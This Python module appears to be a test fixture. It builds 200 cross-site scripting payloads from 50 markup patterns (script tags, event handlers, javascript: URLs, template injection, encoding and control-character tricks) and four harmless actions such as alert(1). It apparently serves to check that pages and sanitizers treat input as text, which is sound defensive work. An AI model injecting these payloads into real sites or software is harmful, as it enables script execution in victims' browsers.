"""200 texts that would run code, load something or add elements, if a page took them for more than texts."""

from __future__ import annotations

ACTIONS = ("alert(1)", "confirm`1`", "window.owned=1", "document.body.append(document.createElement('iframe'))")
SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror=\"{}\">", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=\"javascript:{}\">",
    "<a href=javascript:{} autofocus>x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<body onpageshow={}>", "<style>@import 'javascript:{}';</style>", "<math><mi xlink:href=javascript:{}>",
    "<object data=\"data:text/html,<script>{}</script>\">", "<embed src=javascript:{}>", "<base href=javascript:{}//>",
    "<form action=javascript:{}><button>x", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=stylesheet href=javascript:{}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<marquee onstart={}>", "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "\"><img src=x onerror={}>", "' onmouseover={} x='", "`${{{}}}`", "{{{{constructor.constructor('{}')()}}}}",
    "-->\n<script>{}</script>", "<!--<script>{}</script>", "]]><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</textarea><script>{}</script>", "</option></select><script>{}</script>",
    "</datalist><img src=x onerror={}>", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;img src=x onerror={}&gt;",
    "javascript:{}", "data:text/html;base64,PHNjcmlwdD57fTwvc2NyaXB0Pg==#{}", "\u202e<img src=x onerror={}>\u202c",
    "<\u0000img src=x onerror={}>", "<img\u000bsrc=x\u000conerror={}>", "\ufeff<script>{}</script>",
    "</s><unk><pad>[MASK]<script>{}</script>", "__proto__ constructor toString {}", "<x-{} is=glass>",
    "<img srcset='https://example.org/{}'>", "<p style=\"background:url(https://example.org/{})\">",
    "%3Cscript%3E{}%3C/script%3E",
)  # fmt: skip
PAYLOADS = tuple(shape.format(action) for shape in SHAPES for action in ACTIONS)

assert len({*PAYLOADS}) == 200
